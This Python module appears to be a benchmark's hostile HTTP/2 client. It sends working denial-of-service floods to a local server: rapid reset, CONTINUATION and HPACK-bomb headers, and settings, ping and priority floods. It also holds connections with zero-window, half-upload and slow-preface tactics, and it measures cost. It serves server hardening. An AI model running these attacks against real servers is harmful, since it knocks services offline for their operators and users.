"""A hostile HTTP/2 client: each attack as bytes that are made once and cost next to nothing to send, again and again.

    python -m benchmarks.abuse PORT ATTACK SECONDS [CONNECTIONS] [RTT_MS]    -> {"connections": ..., "mib": ..., "cpu_s": ..., "seconds": ...}

As soon as a connection is closed, or all was said and nothing is to be held, the next one is opened. It reads what it is sent (and throws it away):
a client that does not is stopped by its own full socket. RTT_MS delays what a round trip would delay: the handshake's two, and the news of the end.
"""

from __future__ import annotations

import json
import select
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator

from benchmarks import frames
from benchmarks.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    OPENING,
    PING,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    frame,
)
from benchmarks.load import BODY
from benchmarks.load import HEADERS as FIELDS
from benchmarks.verify import client_context

PRIORITY = 2
SLICE = 64 * 1024  # bytes of one write
FLOOD = 20_000  # frames; every server compared hangs up before that
STREAMS = 100  # at a time
HOLD_S = 3600.0
NO_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, 0))

Piece = tuple[bytes, float]  # what is said, and how many seconds to wait afterwards
Attack = Callable[[], Iterator[Piece]]


def asked(stream: int, *, ended: bool = True, path: str = "/mcp", fields: dict[str, str] | None = None) -> bytes:
    return frames.head(stream, "GET" if ended else "POST", path, FIELDS if fields is None else fields, ended=ended)


def numbers(count: int) -> range:
    return range(1, 2 * count, 2)


def said(*pieces: bytes, hold: float = 0.0) -> Iterator[Piece]:
    """Everything in one go."""
    yield OPENING + b"".join(pieces), hold


def again(*data: bytes, count: int = FLOOD) -> Attack:
    """One open stream, number 1, then the same frames for as long as somebody listens."""
    return lambda: said(NO_WINDOW, asked(1, ended=False, path="/up"), b"".join(data) * count)


def each(after: Callable[[int], bytes], *, ended: bool = True, count: int = 2000) -> Attack:
    """A request and what follows on its stream, again and again."""
    return lambda: said(*(asked(stream, ended=ended) + after(stream) for stream in numbers(count)))


def reset(stream: int) -> bytes:
    return frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))


def late_resets() -> Iterator[Piece]:
    """The requests are on their way to the server behind when they are taken back."""
    yield OPENING, 0
    for first in range(0, 2000, 20):
        batch = [2 * stream + 1 for stream in range(first, first + 20)]
        yield b"".join(map(asked, batch)), 0.001
        yield b"".join(map(reset, batch)), 0


def window(stream: int, step: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, step.to_bytes(4, "big"))


def one_byte_windows() -> Iterator[Piece]:
    """Answers byte by byte."""
    yield OPENING + NO_WINDOW + b"".join(map(asked, numbers(STREAMS))), 0.01
    yield b"".join(window(stream, 1) for stream in numbers(STREAMS)) * 200, 0


def block(size: int) -> bytes:
    """A literal field of about this size, without indexing."""
    return b"\0\1x\x7f" + bytes(((size - 127) & 127 | 128, (size - 127) >> 7 & 127 | 128, (size - 127) >> 14)) + b"y" * size


def bomb() -> bytes:
    """A field of 4 000 bytes goes into the table, then references of one byte to it; the request ends 431 or the connection does."""
    indexed = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    start = asked(1)[9:]
    return frame(HEADERS, END_HEADERS | END_STREAM, 1, start + indexed + b"\xbe" * (16384 - len(start) - len(indexed)))


def long_lists(count: int) -> bytes:
    """As many short fields in each head, and each head another one."""
    fields = b"\0\1x\1y" * count
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, asked(stream, path=f"/mcp?{stream}")[9:] + fields) for stream in numbers(200)
    )


def unfolding(count: int, size: int) -> bytes:
    """A field goes into the table; then heads, each another one, of references of one byte to it."""
    first = b"\x40\1x" + (bytes((size,)) if size < 127 else b"\x7f" + bytes(((size - 127) & 127 | 128, (size - 127) >> 7))) + b"y" * size
    return b"".join(
        frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            stream,
            asked(stream, path=f"/mcp?{stream}", fields={})[9:] + (first if stream == 1 else b"") + b"\xbe" * count,
        )
        for stream in numbers(2000)
    )


def half_uploads() -> Iterator[Piece]:
    """A hundred on each connection, promised and never ended."""
    yield (
        OPENING + b"".join(asked(stream, ended=False, path="/up") + frame(DATA, 0, stream, BODY.encode()) for stream in numbers(STREAMS)),
        HOLD_S,
    )


def slow_preface() -> Iterator[Piece]:
    for byte in OPENING:
        yield bytes((byte,)), 0.05


def dependent(stream: int) -> bytes:
    """Each depends on the next, and the next on it."""
    return frame(PRIORITY, 0, stream, (stream + 2).to_bytes(4, "big") + b"\x10") + frame(
        PRIORITY, 0, stream + 2, stream.to_bytes(4, "big") + b"\x10"
    )


ATTACKS: dict[str, Attack] = {
    "reconnect": lambda: said(),  # no attack but for the handshakes: what the others cost more is theirs
    "rapid_reset": each(reset),
    "late_reset": late_resets,
    "made_you_reset": each(lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4))),
    "continuation": lambda: said(frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1, block(1000)) * 1000),
    "empty_continuation": lambda: said(frame(HEADERS, 0, 1), frame(CONTINUATION, 0, 1) * FLOOD),
    "hpack_bomb": lambda: said(bomb()),
    "header_list": lambda: said(long_lists(3000)),  # ends the connection at once
    "refused_lists": lambda: said(long_lists(2400)),  # is answered 431
    "many_fields": lambda: said(unfolding(90, 10)),
    "unfolding_lists": lambda: said(unfolding(240, 10)),
    "unfolding_heads": lambda: said(unfolding(80, 400)),
    "settings": again(frame(SETTINGS, 0, 0, struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, 70_000))),
    "long_settings": again(frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", 0x1000 + i, i) for i in range(2000))), count=50),
    "ping": again(frame(PING, 0, 0, b"12345678")),
    "priority": again(frame(PRIORITY, 0, 3, b"\0\0\0\5\x10")),
    "dependency_loops": lambda: said(*map(dependent, numbers(FLOOD))),
    "empty_data": again(frame(DATA, 0, 1)),
    "tiny_data": again(frame(DATA, 0, 1, b"x")),
    "window_update": again(window(1, 1)),
    "unknown_frames": again(frame(0xEE, 0, 0)),
    "zero_window": lambda: said(NO_WINDOW, *(asked(stream, path="/down/1000000") for stream in numbers(STREAMS)), hold=HOLD_S),
    "one_byte_windows": one_byte_windows,
    "half_uploads": half_uploads,
    "slow_preface": slow_preface,
}


class Attacker:
    """One hostile connection after the other."""

    def __init__(self, port: int, name: str, pieces: list[Piece], deadline: float, rtt: float) -> None:
        self.address = ("127.0.0.1", port)
        self.own = (f"127.0.1.{1 + list(ATTACKS).index(name)}", 0)  # nobody else's: who is hostile must not be taken for the honest clients
        self.pieces, self.deadline, self.rtt = pieces, deadline, rtt
        self.context = client_context("h2")
        self.connections = self.sent = 0

    def run(self) -> None:
        while time.monotonic() < self.deadline:
            try:
                with socket.create_connection(self.address, 5, self.own) as raw, self.context.wrap_socket(raw) as link:
                    time.sleep(2 * self.rtt)
                    self.connections += 1
                    link.setblocking(False)
                    self.pour(link)
            except OSError:
                pass  # closed, as it should be
            time.sleep(self.rtt)

    def pour(self, link: ssl.SSLSocket) -> None:
        """Say it all; returns when the server hung up or nothing is left to do. Raises OSError when the connection breaks."""
        for data, pause in self.pieces:
            rest = memoryview(data)
            while rest:
                try:
                    size = link.send(rest[:SLICE])
                    self.sent += size
                    rest = rest[size:]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    select.select([link], [link], [], 0.05)
                if not self.listen(link, 0.0):
                    return
            if not self.listen(link, pause):
                return
        self.listen(link, 1.0 if self.pieces[-1][0] != OPENING else 0.0)

    def listen(self, link: ssl.SSLSocket, seconds: float) -> bool:
        """Throw away what comes for so long. False at the end of the connection, or of the attack."""
        until = min(time.monotonic() + seconds, self.deadline)
        while True:
            try:
                while data := link.recv(SLICE):
                    if any(kind == frames.GOAWAY for kind in kinds(data)):
                        return False
                return False
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                left = until - time.monotonic()
                if left <= 0:
                    return time.monotonic() < self.deadline
                select.select([link], [], [], left)


def kinds(data: bytes) -> Iterator[int]:
    """Of the frames of one TLS record; servers begin one with a frame, and where that is not so a GOAWAY is seen late and no harm done."""
    at = 0
    while at + 9 <= len(data):
        yield data[at + 3]
        at += 9 + int.from_bytes(data[at : at + 3], "big")


def main(port: int, name: str, seconds: float, connections: int = 1, rtt_ms: float = 0.0) -> None:
    pieces = list(ATTACKS[name]())
    began, cpu = time.monotonic(), time.process_time()
    attackers = [Attacker(port, name, pieces, began + seconds, rtt_ms / 1000) for _ in range(connections)]
    threads = [threading.Thread(target=attacker.run) for attacker in attackers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(
        json.dumps(
            {
                "connections": sum(attacker.connections for attacker in attackers),
                "mib": sum(attacker.sent for attacker in attackers) / 2**20,
                "cpu_s": time.process_time() - cpu,
                "seconds": time.monotonic() - began,
            }
        )
    )


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], *map(float, sys.argv[3:4]), *map(int, sys.argv[4:5]), *map(float, sys.argv[5:6]))
